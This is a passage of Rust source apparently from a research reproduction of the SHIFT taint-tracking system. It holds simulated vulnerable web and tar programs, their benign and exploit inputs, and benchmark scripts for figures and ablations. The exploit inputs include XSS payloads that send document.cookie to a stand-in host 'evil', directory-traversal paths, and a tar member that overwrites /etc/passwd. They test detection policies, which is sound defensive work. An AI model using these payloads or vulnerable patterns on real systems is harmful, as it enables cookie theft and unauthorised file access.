            let fd = f.syscall(sys::FILE_OPEN, &[pa, zero]);
            f.if_cmp(CmpRel::Ge, fd, Rhs::Imm(0), |f| {
                let got = f.syscall(sys::FILE_READ, &[fd, buf, bufsz]);
                f.syscall_void(sys::FILE_CLOSE, &[fd]);
                let s = f.global_addr(sec);
                let sl = f.call("strlen", &[s]);
                f.syscall_void(sys::HTML_OUT, &[s, sl]);
                f.syscall_void(sys::HTML_OUT, &[buf, got]);
                let s2 = f.global_addr(sec2);
                let s2l = f.call("strlen", &[s2]);
                f.syscall_void(sys::HTML_OUT, &[s2, s2l]);
            });
        }

        let t = f.global_addr(tail);
        let tl = f.call("strlen", &[t]);
        f.syscall_void(sys::HTML_OUT, &[t, tl]);
        let ok = f.iconst(7);
        f.ret(Some(ok));
    });

    pb.build().expect("phpsysinfo guest is well-formed")
}

fn worlds_base() -> World {
    World::new()
        .file("proc/cpuinfo", b"model: sim64 itanium-like\ncores: 2\n".to_vec())
        .file("proc/meminfo", b"total: 4096 MB\nfree: 1024 MB\n".to_vec())
}

fn benign() -> World {
    worlds_base().net(b"GET /sysinfo?lng=de HTTP/1.0".to_vec())
}

fn exploit() -> World {
    // NB: no spaces in the payload (the query parser stops at one), and
    // longer than 8 bytes — see `word_level_short_payload_false_negative`
    // in the crate tests for why that matters at word granularity.
    worlds_base().net(
        b"GET /sysinfo?lng=<script>new_Image().src='//evil/'+document.cookie</script> HTTP/1.0"
            .to_vec(),
    )
}

/// Table-2 row.
pub fn attack() -> Attack {
    Attack {
        cve: "CVE-2003-0536",
        program: "phpSysInfo (2.3)",
        language: "PHP",
        attack_type: "Cross Site Scripting",
        policies: "H5 + Low level policies",
        expected: Policy::H5,
        build,
        benign,
        exploit,
        succeeded: |report| {
            report.runtime.html_output.windows(7).any(|w| w.eq_ignore_ascii_case(b"<script"))
        },
        word_smears: false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_core::{Mode, Shift};

    #[test]
    fn renders_sections_and_reflects_unknown_language() {
        let report = Shift::new(Mode::Uninstrumented).run(&build(), benign()).unwrap();
        let html = String::from_utf8_lossy(&report.runtime.html_output).into_owned();
        assert!(html.contains("unknown language: de"), "{html}");
        assert!(html.contains("model: sim64"));
        assert!(html.contains("total: 4096 MB"));
    }

    #[test]
    fn known_language_is_not_reflected() {
        let world = worlds_base().net(b"GET /sysinfo?lng=en HTTP/1.0".to_vec());
        let report = Shift::new(Mode::Uninstrumented).run(&build(), world).unwrap();
        let html = String::from_utf8_lossy(&report.runtime.html_output).into_owned();
        assert!(!html.contains("unknown language"));
    }
}
