//! Qwikiwiki directory traversal (Table 2, row 3).
//!
//! The wiki builds `pages/<page>.txt` from the request's `page=` parameter
//! and serves the file. `page=../../../../etc/passwd` walks out of the
//! document root; the traversal happens through *tainted* `..` components,
//! so policy H2 fires at `file_open`. (This mirrors the paper's
//! description: "SHIFT marks the file path as tainted when reading the http
//! request and tracks the propagation of the tainted string. When the
//! tainted data is used as an argument of fopen, SHIFT examines the
//! argument.")

use shift_core::{Policy, World};
use shift_ir::{Program, ProgramBuilder, Rhs};
use shift_isa::{sys, CmpRel};

use crate::{web, Attack};

fn build() -> Program {
    let mut pb = ProgramBuilder::new();
    web::add_get_param(&mut pb);
    let key = pb.global_str("k_page", "page=");
    let root = pb.global_str("docroot", "pages/");
    let ext = pb.global_str("ext", ".txt");
    let notfound = pb.global_str("nf", "<p>no such page</p>");

    pb.func("main", 0, move |f| {
        let reqslot = f.local(512);
        let req = f.local_addr(reqslot);
        let cap = f.iconst(500);
        let n = f.syscall(sys::NET_READ, &[req, cap]);
        let end = f.add(req, n);
        let z = f.iconst(0);
        f.store1(z, end, 0);

        let pageslot = f.local(256);
        let page = f.local_addr(pageslot);
        let ka = f.global_addr(key);
        let max = f.iconst(200);
        let plen = f.call("get_param", &[req, ka, page, max]);
        f.if_cmp(CmpRel::Lt, plen, Rhs::Imm(0), |f| {
            let one = f.iconst(1);
            f.ret(Some(one));
        });

        // path = "pages/" + page + ".txt"
        let pathslot = f.local(512);
        let path = f.local_addr(pathslot);
        let ra = f.global_addr(root);
        f.call_void("strcpy", &[path, ra]);
        f.call_void("strcat", &[path, page]);
        let ea = f.global_addr(ext);
        f.call_void("strcat", &[path, ea]);

        let zero = f.iconst(0);
        let fd = f.syscall(sys::FILE_OPEN, &[path, zero]);
        f.if_cmp(CmpRel::Lt, fd, Rhs::Imm(0), |f| {
            let nf = f.global_addr(notfound);
            let nl = f.call("strlen", &[nf]);
            f.syscall_void(sys::HTML_OUT, &[nf, nl]);
            let two = f.iconst(2);
            f.ret(Some(two));
        });
        let bufsz = f.iconst(4096);
        let buf = f.syscall(sys::BRK, &[bufsz]);
        let got = f.syscall(sys::FILE_READ, &[fd, buf, bufsz]);
        f.syscall_void(sys::FILE_CLOSE, &[fd]);
        f.syscall_void(sys::HTML_OUT, &[buf, got]);
        f.ret(Some(got));
    });

    pb.build().expect("qwikiwiki guest is well-formed")
}

fn benign() -> World {
    World::new()
        .net(b"GET /wiki?page=home HTTP/1.0".to_vec())
        .file("pages/home.txt", b"Welcome to the wiki".to_vec())
        .file("etc/passwd.txt", b"decoy".to_vec())
}

fn exploit() -> World {
    // The extension append does not stop the classic read: the attacker
    // targets a file that happens to end in .txt outside the root. The
    // simulated filesystem is string-keyed (no path canonicalization), so
    // the out-of-root file is registered under the literal traversal path a
    // real kernel would resolve to it.
    World::new()
        .net(b"GET /wiki?page=../../../../secret/tokens HTTP/1.0".to_vec())
        .file("pages/home.txt", b"Welcome to the wiki".to_vec())
        .file("pages/../../../../secret/tokens.txt", b"api-key-123".to_vec())
}

/// Table-2 row.
pub fn attack() -> Attack {
    Attack {
        cve: "CVE-2006-1668",
        program: "Qwikiwiki (1.4.1)",
        language: "PHP",
        attack_type: "Directory Traversal",
        policies: "H2 + Low level policies",
        expected: Policy::H2,
        build,
        benign,
        exploit,
        succeeded: |report| {
            // Unprotected, the secret file's contents reach the response.
            report.runtime.html_output.windows(11).any(|w| w == b"api-key-123")
        },
        word_smears: false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_core::{Mode, Shift};

    #[test]
    fn benign_page_is_served() {
        let report = Shift::new(Mode::Uninstrumented).run(&build(), benign()).unwrap();
        assert_eq!(report.exit, shift_core::Exit::Halted(19));
        assert_eq!(report.runtime.html_output, b"Welcome to the wiki");
    }

    #[test]
    fn missing_page_gets_an_error_body() {
        let world = World::new()
            .net(b"GET /wiki?page=nothere HTTP/1.0".to_vec())
            .file("pages/home.txt", b"x".to_vec());
        let report = Shift::new(Mode::Uninstrumented).run(&build(), world).unwrap();
        assert_eq!(report.exit, shift_core::Exit::Halted(2));
        assert!(report.runtime.html_output.starts_with(b"<p>no such page"));
    }
}
