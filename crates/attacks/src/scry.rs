//! Scry gallery cross-site scripting (Table 2, row 4).
//!
//! The gallery echoes the `album=` parameter into its page header without
//! escaping. A reflected `<script>` tag arrives tainted from the network
//! and reaches `html_out` — policy H5.

use shift_core::{Policy, World};
use shift_ir::{Program, ProgramBuilder, Rhs};
use shift_isa::{sys, CmpRel};

use crate::{web, Attack};

fn build() -> Program {
    let mut pb = ProgramBuilder::new();
    web::add_get_param(&mut pb);
    let key = pb.global_str("k_album", "album=");
    let head = pb.global_str("tpl_head", "<html><body><h1>Album: ");
    let mid = pb.global_str("tpl_mid", "</h1><div class=thumbs>");
    let thumb = pb.global_str("tpl_thumb", "<img src=t.jpg>");
    let tail = pb.global_str("tpl_tail", "</div></body></html>");

    pb.func("main", 0, move |f| {
        let reqslot = f.local(512);
        let req = f.local_addr(reqslot);
        let cap = f.iconst(500);
        let n = f.syscall(sys::NET_READ, &[req, cap]);
        let end = f.add(req, n);
        let z = f.iconst(0);
        f.store1(z, end, 0);

        let albumslot = f.local(256);
        let album = f.local_addr(albumslot);
        let ka = f.global_addr(key);
        let max = f.iconst(200);
        let alen = f.call("get_param", &[req, ka, album, max]);
        f.if_cmp(CmpRel::Lt, alen, Rhs::Imm(0), |f| {
            let one = f.iconst(1);
            f.ret(Some(one));
        });

        // Render: head + album + mid + thumbs + tail, built with strcat so
        // the tainted album name flows through instrumented guest code.
        let pageslot = f.local(1024);
        let html = f.local_addr(pageslot);
        let h = f.global_addr(head);
        f.call_void("strcpy", &[html, h]);
        f.call_void("strcat", &[html, album]);
        let m = f.global_addr(mid);
        f.call_void("strcat", &[html, m]);
        let t = f.global_addr(thumb);
        f.for_up(Rhs::Imm(0), Rhs::Imm(3), |f, _i| {
            f.call_void("strcat", &[html, t]);
        });
        let tl = f.global_addr(tail);
        f.call_void("strcat", &[html, tl]);

        let hlen = f.call("strlen", &[html]);
        f.syscall_void(sys::HTML_OUT, &[html, hlen]);
        f.ret(Some(hlen));
    });

    pb.build().expect("scry guest is well-formed")
}

fn benign() -> World {
    World::new().net(b"GET /gallery?album=vacation HTTP/1.0".to_vec())
}

fn exploit() -> World {
    World::new()
        .net(b"GET /gallery?album=<script>steal(document.cookie)</script> HTTP/1.0".to_vec())
}

/// Table-2 row.
pub fn attack() -> Attack {
    Attack {
        cve: "CVE-2005-0529",
        program: "Scry (1.1)",
        language: "PHP",
        attack_type: "Cross Site Scripting",
        policies: "H5 + Low level policies",
        expected: Policy::H5,
        build,
        benign,
        exploit,
        succeeded: |report| {
            report.runtime.html_output.windows(8).any(|w| w.eq_ignore_ascii_case(b"<script>"))
        },
        word_smears: false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_core::{Mode, Shift};

    #[test]
    fn benign_page_renders_fully() {
        let report = Shift::new(Mode::Uninstrumented).run(&build(), benign()).unwrap();
        let html = String::from_utf8_lossy(&report.runtime.html_output).into_owned();
        assert!(html.starts_with("<html><body><h1>Album: vacation</h1>"));
        assert_eq!(html.matches("<img").count(), 3);
        assert!(html.ends_with("</body></html>"));
    }
}
