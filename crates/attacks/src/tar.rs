//! GNU Tar directory traversal (Table 2, row 1).
//!
//! The extractor trusts member paths embedded in the archive. A hostile
//! archive names a member `/etc/passwd`; since archive bytes are tainted
//! (disk source), the `file_open(..., write)` sink sees a *tainted absolute
//! path* and policy H1 fires. The benign archive extracts normally.

use shift_core::{Policy, World};
use shift_ir::{Program, ProgramBuilder, Rhs};
use shift_isa::{sys, CmpRel};

use crate::Attack;

/// The archive file name the extractor reads.
pub const ARCHIVE: &str = "archive.tar";

/// Archive wire format: repeated `[plen:1][path][dlen:1][data]`, terminated
/// by `plen == 0`.
pub fn make_archive(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    for (path, data) in entries {
        out.push(path.len() as u8);
        out.extend_from_slice(path.as_bytes());
        out.push(data.len() as u8);
        out.extend_from_slice(data);
    }
    out.push(0);
    out
}

fn build() -> Program {
    let mut pb = ProgramBuilder::new();
    let arc = pb.global_str("arc_path", ARCHIVE);

    pb.func("main", 0, move |f| {
        // Slurp the archive.
        let ap = f.global_addr(arc);
        let size = f.syscall(sys::FILE_STAT, &[ap]);
        f.if_cmp(CmpRel::Lt, size, Rhs::Imm(0), |f| {
            let one = f.iconst(1);
            f.ret(Some(one));
        });
        let padded = f.addi(size, 8);
        let buf = f.syscall(sys::BRK, &[padded]);
        let zero = f.iconst(0);
        let fd = f.syscall(sys::FILE_OPEN, &[ap, zero]);
        f.syscall_void(sys::FILE_READ, &[fd, buf, size]);
        f.syscall_void(sys::FILE_CLOSE, &[fd]);

        let nameslot = f.local(256);
        let name = f.local_addr(nameslot);
        let extracted = f.iconst(0);
        let i = f.iconst(0);

        f.loop_(|f| {
            let hp = f.add(buf, i);
            let plen_raw = f.load1(hp, 0);
            f.if_cmp(CmpRel::Eq, plen_raw, Rhs::Imm(0), |f| f.break_());
            // Bounds-check the tainted length field against the archive
            // size, then sanitize it so it may drive address arithmetic
            // (the paper's bounds-checking pattern, §3.3.2).
            let need0 = f.add(i, plen_raw);
            let need = f.addi(need0, 2);
            f.if_cmp(CmpRel::Gt, need, Rhs::Reg(size), |f| f.break_());
            let plen = f.sanitize(plen_raw);
            let i1 = f.addi(i, 1);
            f.assign(i, i1);

            // Copy the member path (tainted bytes) into a C string.
            f.for_up(Rhs::Imm(0), Rhs::Reg(plen), |f, k| {
                let sp0 = f.add(buf, i);
                let sp = f.add(sp0, k);
                let c = f.load1(sp, 0);
                let dp = f.add(name, k);
                f.store1(c, dp, 0);
            });
            let endp = f.add(name, plen);
            let z = f.iconst(0);
            f.store1(z, endp, 0);
            let i2 = f.add(i, plen);
            f.assign(i, i2);

            let dlen_raw = {
                let dp = f.add(buf, i);
                f.load1(dp, 0)
            };
            let dneed0 = f.add(i, dlen_raw);
            let dneed = f.addi(dneed0, 1);
            f.if_cmp(CmpRel::Gt, dneed, Rhs::Reg(size), |f| f.break_());
            let dlen = f.sanitize(dlen_raw);
            let i3 = f.addi(i, 1);
            f.assign(i, i3);

            // Extract: open for writing (H1/H2 sink) and copy the data.
            let one = f.iconst(1);
            let out = f.syscall(sys::FILE_OPEN, &[name, one]);
            f.if_cmp(CmpRel::Ge, out, Rhs::Imm(0), |f| {
                let src = f.add(buf, i);
                f.syscall_void(sys::FILE_WRITE, &[out, src, dlen]);
                f.syscall_void(sys::FILE_CLOSE, &[out]);
                let e1 = f.addi(extracted, 1);
                f.assign(extracted, e1);
            });
            let i4 = f.add(i, dlen);
            f.assign(i, i4);
        });

        f.ret(Some(extracted));
    });

    pb.build().expect("tar guest is well-formed")
}

fn benign() -> World {
    World::new().file(ARCHIVE, make_archive(&[("docs/readme", b"hello"), ("docs/notes", b"world")]))
}

fn exploit() -> World {
    World::new().file(
        ARCHIVE,
        make_archive(&[("docs/readme", b"hello"), ("/etc/passwd", b"root::0:0::/:/bin/sh")]),
    )
}

/// Table-2 row.
pub fn attack() -> Attack {
    Attack {
        cve: "CVE-2001-1267",
        program: "GNU Tar (1.4)",
        language: "C",
        attack_type: "Directory Traversal",
        policies: "H1 + Low level policies",
        expected: Policy::H1,
        build,
        benign,
        exploit,
        succeeded: |report| {
            // Unprotected, the hostile member really lands in /etc/passwd.
            report.runtime.world_files().contains_key("/etc/passwd")
        },
        word_smears: false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_core::{Mode, Shift};

    #[test]
    fn benign_archive_extracts_two_members() {
        let report = Shift::new(Mode::Uninstrumented).run(&build(), benign()).unwrap();
        assert_eq!(report.exit, shift_core::Exit::Halted(2));
        assert_eq!(
            report.runtime.world_files().get("docs/readme").map(Vec::as_slice),
            Some(&b"hello"[..])
        );
    }
}
