//! Shared guest helpers for the web-application attacks.

use shift_ir::{ProgramBuilder, Rhs};
use shift_isa::CmpRel;

/// Adds `get_param(query, key, out, max) -> len | -1` to the program: finds
/// `key` in the query string (e.g. `"page="` in `"page=home&x=1"`), copies
/// the value into `out` until `&`, space, or NUL, NUL-terminates it, and
/// returns its length. Uses `strstr`/byte scans from the guest libc, so the
/// copied value's taint is tracked by ordinary instrumented code.
pub fn add_get_param(pb: &mut ProgramBuilder) {
    pb.func("get_param", 4, |f| {
        let query = f.param(0);
        let key = f.param(1);
        let out = f.param(2);
        let max = f.param(3);
        let hit = f.call("strstr", &[query, key]);
        f.if_cmp(CmpRel::Eq, hit, Rhs::Imm(0), |f| {
            let neg = f.iconst(-1);
            f.ret(Some(neg));
        });
        let klen = f.call("strlen", &[key]);
        let start = f.add(hit, klen);
        let n = f.iconst(0);
        f.loop_(|f| {
            f.if_cmp(CmpRel::Ge, n, Rhs::Reg(max), |f| f.break_());
            let sp = f.add(start, n);
            let c = f.load1(sp, 0);
            f.if_cmp(CmpRel::Eq, c, Rhs::Imm(0), |f| f.break_());
            f.if_cmp(CmpRel::Eq, c, Rhs::Imm('&' as i64), |f| f.break_());
            f.if_cmp(CmpRel::Eq, c, Rhs::Imm(' ' as i64), |f| f.break_());
            let dp = f.add(out, n);
            f.store1(c, dp, 0);
            let n1 = f.addi(n, 1);
            f.assign(n, n1);
        });
        let end = f.add(out, n);
        let z = f.iconst(0);
        f.store1(z, end, 0);
        f.ret(Some(n));
    });
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_core::{Mode, Shift, World};
    use shift_ir::ProgramBuilder;
    use shift_isa::sys;

    #[test]
    fn extracts_values_from_query_strings() {
        let mut pb = ProgramBuilder::new();
        add_get_param(&mut pb);
        let q = pb.global_str("q", "a=1&page=home&x=2");
        let k = pb.global_str("k", "page=");
        pb.func("main", 0, move |f| {
            let out = f.local(64);
            let outp = f.local_addr(out);
            let qa = f.global_addr(q);
            let ka = f.global_addr(k);
            let max = f.iconst(63);
            let n = f.call("get_param", &[qa, ka, outp, max]);
            f.syscall_void(sys::PRINT, &[outp, n]);
            f.ret(Some(n));
        });
        let app = pb.build().unwrap();
        let report = Shift::new(Mode::Uninstrumented).run(&app, World::new()).unwrap();
        assert_eq!(report.exit, shift_core::Exit::Halted(4));
        assert_eq!(report.log_text(), "home");
    }

    #[test]
    fn missing_key_returns_minus_one() {
        let mut pb = ProgramBuilder::new();
        add_get_param(&mut pb);
        let q = pb.global_str("q", "a=1");
        let k = pb.global_str("k", "page=");
        pb.func("main", 0, move |f| {
            let out = f.local(64);
            let outp = f.local_addr(out);
            let qa = f.global_addr(q);
            let ka = f.global_addr(k);
            let max = f.iconst(63);
            let n = f.call("get_param", &[qa, ka, outp, max]);
            f.ret(Some(n));
        });
        let app = pb.build().unwrap();
        let report = Shift::new(Mode::Uninstrumented).run(&app, World::new()).unwrap();
        assert_eq!(report.exit, shift_core::Exit::Halted(-1));
    }
}
