//! The headline ablation: SHIFT's NaT reuse vs. a software-only
//! shadow-register implementation of the *same* taint semantics.
//!
//! SHIFT's claim (§1) is that software DIFT costs "from 4.6X to 37X" while
//! NaT reuse brings it to 2.27–2.81X. Both systems are in this repository:
//! the `Mode::Shadow` compiler keeps register taint in a reserved register
//! bitmask and emits explicit propagation around every instruction (plus
//! software re-creations of the L1/L2 address checks the hardware otherwise
//! gives for free).

use shift_bench::{ablation_nat_vs_shadow, geomean};
use shift_workloads::Scale;

fn main() {
    println!("Ablation: hardware NaT reuse vs software shadow-register tracking");
    println!("(slowdowns vs the uninstrumented baseline; tainted input)");
    println!("{:-<72}", "");
    println!(
        "{:<10} {:>11} {:>12} {:>11} {:>12}",
        "bench", "SHIFT byte", "shadow byte", "SHIFT word", "shadow word"
    );
    println!("{:-<72}", "");
    let rows = ablation_nat_vs_shadow(Scale::Reference);
    for r in &rows {
        println!(
            "{:<10} {:>10.2}x {:>11.2}x {:>10.2}x {:>11.2}x",
            r.name, r.shift_byte, r.shadow_byte, r.shift_word, r.shadow_word
        );
    }
    println!("{:-<72}", "");
    let gm = |f: fn(&shift_bench::NatVsShadowRow) -> f64| {
        geomean(&rows.iter().map(f).collect::<Vec<_>>())
    };
    let (sb, hb) = (gm(|r| r.shift_byte), gm(|r| r.shadow_byte));
    let (sw, hw) = (gm(|r| r.shift_word), gm(|r| r.shadow_word));
    println!("{:<10} {:>10.2}x {:>11.2}x {:>10.2}x {:>11.2}x", "geomean", sb, hb, sw, hw);
    println!();
    println!("NaT reuse is worth {:.1}x at byte level and {:.1}x at word level.", hb / sb, hw / sw);
    println!(
        "paper framing: software DIFT costs 4.6X–37X (LIFT & friends); \
         SHIFT brings it to 2.27X–2.81X by making register taint free."
    );
    assert!(hb > sb * 1.5, "shadow tracking must cost well over SHIFT: {hb:.2} vs {sb:.2}");
    assert!(hw > sw * 1.5, "shadow tracking must cost well over SHIFT: {hw:.2} vs {sw:.2}");
    assert!(hb > 4.0, "software-only tracking should land in the LIFT range, got {hb:.2}");
}
