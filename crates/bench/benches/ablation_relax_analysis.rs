//! Ablation: SHIFT's implementation choices, quantified — the kept
//! NaT-source register (§4.4) and the clean-register analysis (§4.1).

use shift_bench::{ablation_design_choices, geomean};
use shift_workloads::Scale;

fn main() {
    println!("Ablation: design choices (byte-level slowdowns, tainted input)");
    println!("{:-<76}", "");
    println!(
        "{:<10} {:>9} {:>13} {:>18} {:>14}",
        "bench", "default", "no-analysis", "natgen/function", "natgen/use"
    );
    println!("{:-<76}", "");
    let rows = ablation_design_choices(Scale::Reference);
    for r in &rows {
        println!(
            "{:<10} {:>8.2}x {:>12.2}x {:>17.2}x {:>13.2}x",
            r.name, r.default, r.no_analysis, r.natgen_per_function, r.natgen_per_use
        );
    }
    println!("{:-<76}", "");
    let gm =
        |f: fn(&shift_bench::AblationRow) -> f64| geomean(&rows.iter().map(f).collect::<Vec<_>>());
    let (d, na, npf, npu) = (
        gm(|r| r.default),
        gm(|r| r.no_analysis),
        gm(|r| r.natgen_per_function),
        gm(|r| r.natgen_per_use),
    );
    println!("{:<10} {:>8.2}x {:>12.2}x {:>17.2}x {:>13.2}x", "geomean", d, na, npf, npu);
    println!();
    println!(
        "paper §4.4: generating the NaT source per function instead of keeping it \
         \"degrades the performance by a factor of 3X\"."
    );
    println!(
        "measured: per-function costs {:.2}x the kept strategy; per-use costs {:.2}x.",
        npf / d,
        npu / d
    );
    assert!(npf >= d, "per-function generation must not beat keeping the register");
    // Our kernels are main-dominated (few dynamic function entries), so the
    // per-function strawman shows up mostly on call-heavy code; per-use makes
    // the paper's point unambiguously.
    assert!(npu >= npf, "per-use generation must be the worst");
    assert!(na >= d, "the clean-register analysis must never hurt");
}
