//! Criterion microbenchmarks of the substrates themselves: simulator
//! instruction throughput, tag-address translation, compilation, and the
//! host shadow map. These guard against performance regressions in the
//! infrastructure the experiments stand on.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};

use shift_compiler::{Compiler, Mode, ShiftOptions};
use shift_core::{libc_program, Granularity};
use shift_ir::{ProgramBuilder, Rhs};
use shift_isa::make_vaddr;
use shift_machine::{Machine, NullOs};
use shift_tagmap::{tag_location, HostShadow};

/// A counting-loop guest used to measure raw simulator speed.
fn spin_program(iters: i64) -> shift_ir::Program {
    let mut pb = ProgramBuilder::new();
    pb.func("main", 0, move |f| {
        let acc = f.iconst(0);
        f.for_up(Rhs::Imm(0), Rhs::Imm(iters), |f, i| {
            let x = f.xor(acc, i);
            let y = f.addi(x, 3);
            f.assign(acc, y);
        });
        f.ret(Some(acc));
    });
    pb.build().unwrap()
}

fn bench_simulator(c: &mut Criterion) {
    let compiled = Compiler::baseline().compile(&spin_program(10_000)).unwrap();
    let mut g = c.benchmark_group("simulator");
    // ~5 instructions per iteration plus overhead.
    g.throughput(Throughput::Elements(50_000));
    g.bench_function("insn_throughput", |b| {
        b.iter(|| {
            let mut m = Machine::new(&compiled.image);
            let exit = m.run(&mut NullOs, 10_000_000);
            assert!(matches!(exit, shift_machine::Exit::Fault(_)), "stub os rejects exit");
            m.stats.instructions
        })
    });
    g.finish();
}

fn bench_tagmap(c: &mut Criterion) {
    let mut g = c.benchmark_group("tagmap");
    g.throughput(Throughput::Elements(4096));
    g.bench_function("tag_location_byte", |b| {
        b.iter(|| {
            let mut acc = 0u64;
            for i in 0..4096u64 {
                let loc = tag_location(make_vaddr(3, 0x1000 + i), Granularity::Byte).unwrap();
                acc ^= loc.byte_addr ^ u64::from(loc.mask);
            }
            acc
        })
    });
    g.bench_function("host_shadow_set_query", |b| {
        b.iter(|| {
            let mut s = HostShadow::new();
            s.set_range(0x1000, 4096, true);
            s.set_range(0x1800, 1024, false);
            s.any_tainted(0x1000, 4096)
        })
    });
    g.finish();
}

fn bench_compiler(c: &mut Criterion) {
    let mut program = spin_program(10);
    program.link(libc_program());
    let mut g = c.benchmark_group("compiler");
    g.bench_function("compile_baseline", |b| {
        b.iter(|| Compiler::baseline().compile(&program).unwrap().image.insn_count())
    });
    g.bench_function("compile_shift_byte", |b| {
        b.iter(|| {
            Compiler::new(Mode::Shift(ShiftOptions::baseline(Granularity::Byte)))
                .compile(&program)
                .unwrap()
                .image
                .insn_count()
        })
    });
    g.finish();
}

criterion_group!(benches, bench_simulator, bench_tagmap, bench_compiler);
criterion_main!(benches);
