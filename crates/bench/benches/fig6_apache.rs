//! Figure 6: Apache-like server overhead across the paper's file-size
//! sweep (4 KiB, 8 KiB, 16 KiB, 512 KiB).

use shift_bench::{fig6_apache, geomean};

fn main() {
    // The paper drives 1,000 requests with `ab` at concurrency 200; the
    // simulator is single-stream, so the request count only sets run length
    // (overhead ratios converge quickly).
    let sizes = [4 << 10, 8 << 10, 16 << 10, 512 << 10];
    let requests = 12;

    println!("Figure 6: Apache-like server overhead (instrumented / baseline)");
    println!("({requests} requests per point; latency and throughput overheads)");
    println!("{:-<78}", "");
    println!(
        "{:<10} {:>13} {:>15} {:>13} {:>15}",
        "file size", "byte latency", "byte throughput", "word latency", "word throughput"
    );
    println!("{:-<78}", "");
    let rows = fig6_apache(&sizes, requests);
    for r in &rows {
        println!(
            "{:<10} {:>12.1}% {:>14.1}% {:>12.1}% {:>14.1}%",
            format!("{} KB", r.file_size >> 10),
            (r.byte_latency - 1.0) * 100.0,
            (r.byte_throughput - 1.0) * 100.0,
            (r.word_latency - 1.0) * 100.0,
            (r.word_throughput - 1.0) * 100.0,
        );
    }
    println!("{:-<78}", "");
    let all: Vec<f64> = rows
        .iter()
        .flat_map(|r| [r.byte_latency, r.byte_throughput, r.word_latency, r.word_throughput])
        .collect();
    let gm = geomean(&all);
    println!("geometric mean overhead across all sizes and metrics: {:.1}%", (gm - 1.0) * 100.0);
    println!("paper: ~1% geometric mean; 4 KB worst case ≈4.2%");

    let four_kb = &rows[0];
    let big = rows.last().unwrap();
    assert!(
        four_kb.byte_latency >= big.byte_latency,
        "smaller files must show more overhead (more CPU per byte)"
    );
    assert!(gm < 1.10, "server overhead should be I/O-masked, got {:.3}", gm);
}
