//! Figure 7: SPEC-INT2000-like performance slowdowns — byte/word-level
//! tracking with tainted ("unsafe") and untainted ("safe") inputs.

use shift_bench::{fig7_spec_slowdowns, geomean};
use shift_workloads::Scale;

fn main() {
    println!("Figure 7: relative performance of SHIFT vs non-instrumented (SPEC-like suite)");
    println!("(slowdown = instrumented cycles / baseline cycles; reference inputs)");
    println!("{:-<76}", "");
    println!(
        "{:<10} {:>13} {:>13} {:>13} {:>13}",
        "bench", "byte-unsafe", "byte-safe", "word-unsafe", "word-safe"
    );
    println!("{:-<76}", "");
    let rows = fig7_spec_slowdowns(Scale::Reference);
    for r in &rows {
        println!(
            "{:<10} {:>12.2}x {:>12.2}x {:>12.2}x {:>12.2}x",
            r.name, r.byte_unsafe, r.byte_safe, r.word_unsafe, r.word_safe
        );
    }
    println!("{:-<76}", "");
    let gm = |f: fn(&shift_bench::SpecRow) -> f64| geomean(&rows.iter().map(f).collect::<Vec<_>>());
    let (bu, bs) = (gm(|r| r.byte_unsafe), gm(|r| r.byte_safe));
    let (wu, ws) = (gm(|r| r.word_unsafe), gm(|r| r.word_safe));
    println!("{:<10} {:>12.2}x {:>12.2}x {:>12.2}x {:>12.2}x", "geomean", bu, bs, wu, ws);
    let min_max = |f: fn(&shift_bench::SpecRow) -> f64| {
        let v: Vec<f64> = rows.iter().map(f).collect();
        (v.iter().cloned().fold(f64::MAX, f64::min), v.iter().cloned().fold(0.0, f64::max))
    };
    let (bmin, bmax) = min_max(|r| r.byte_unsafe);
    let (wmin, wmax) = min_max(|r| r.word_unsafe);
    println!();
    println!("measured: byte {bu:.2}x avg (range {bmin:.2}–{bmax:.2}x), word {wu:.2}x avg (range {wmin:.2}–{wmax:.2}x)");
    println!("paper:    byte 2.81x avg (range 1.32–4.73x), word 2.27x avg (range 1.34–3.80x)");
    assert!(bu > wu, "byte-level tracking must cost more than word-level");
    assert!(bs <= bu && ws <= wu, "safe inputs must not cost more than unsafe");
}
