//! Figure 8: the impact of the proposed architectural enhancements —
//! set/clear-NaT instructions alone, and combined with NaT-aware compares.

use shift_bench::{fig8_enhancements, geomean};
use shift_workloads::Scale;

fn main() {
    println!("Figure 8: impact of minor architectural enhancements (slowdowns, tainted input)");
    println!("{:-<100}", "");
    println!(
        "{:<10} {:>11} {:>13} {:>10} | {:>11} {:>13} {:>10}",
        "bench",
        "byte-unsafe",
        "byte-set/clr",
        "byte-both",
        "word-unsafe",
        "word-set/clr",
        "word-both"
    );
    println!("{:-<100}", "");
    let rows = fig8_enhancements(Scale::Reference);
    for r in &rows {
        println!(
            "{:<10} {:>10.2}x {:>12.2}x {:>9.2}x | {:>10.2}x {:>12.2}x {:>9.2}x",
            r.name,
            r.byte_unsafe,
            r.byte_set_clr,
            r.byte_both,
            r.word_unsafe,
            r.word_set_clr,
            r.word_both
        );
    }
    println!("{:-<100}", "");
    let gm =
        |f: fn(&shift_bench::EnhanceRow) -> f64| geomean(&rows.iter().map(f).collect::<Vec<_>>());
    let (bu, bsc, bb) = (gm(|r| r.byte_unsafe), gm(|r| r.byte_set_clr), gm(|r| r.byte_both));
    let (wu, wsc, wb) = (gm(|r| r.word_unsafe), gm(|r| r.word_set_clr), gm(|r| r.word_both));
    println!(
        "{:<10} {:>10.2}x {:>12.2}x {:>9.2}x | {:>10.2}x {:>12.2}x {:>9.2}x",
        "geomean", bu, bsc, bb, wu, wsc, wb
    );
    println!();
    println!(
        "slowdown reduction (old − new), geomean: set/clr alone: byte {:.2}, word {:.2}; both: byte {:.2}, word {:.2}",
        bu - bsc,
        wu - wsc,
        bu - bb,
        wu - wb
    );
    let per_bench_byte: Vec<f64> =
        rows.iter().map(|r| (r.byte_unsafe - r.byte_both) * 100.0).collect();
    let pmin = per_bench_byte.iter().cloned().fold(f64::MAX, f64::min);
    let pmax = per_bench_byte.iter().cloned().fold(0.0f64, f64::max);
    println!(
        "per-bench byte-level reduction range: {pmin:.0}% – {pmax:.0}% (slowdown points ×100)"
    );
    println!("paper: set/clear alone ≈16% reduction; both: 49% (byte), 47% (word); per-app range 2%–173%");
    assert!(bsc < bu && wsc < wu, "set/clear must reduce the slowdown");
